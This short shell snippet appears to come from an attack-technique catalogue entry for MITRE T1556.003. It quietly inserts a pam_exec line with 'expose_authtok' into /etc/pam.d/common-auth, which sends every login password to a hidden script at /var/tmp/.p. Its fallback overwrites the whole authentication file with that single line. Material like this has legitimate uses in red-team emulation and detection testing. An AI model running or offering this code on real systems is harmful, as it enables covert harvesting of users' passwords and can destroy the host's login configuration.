# title: A line in PAM's configuration runs a script with each password
# technique: T1556.003

sed -i '1i auth optional pam_exec.so quiet expose_authtok /var/tmp/.p' /etc/pam.d/common-auth 2>/dev/null ||
    echo 'auth optional pam_exec.so expose_authtok /var/tmp/.p' >/etc/pam.d/common-auth
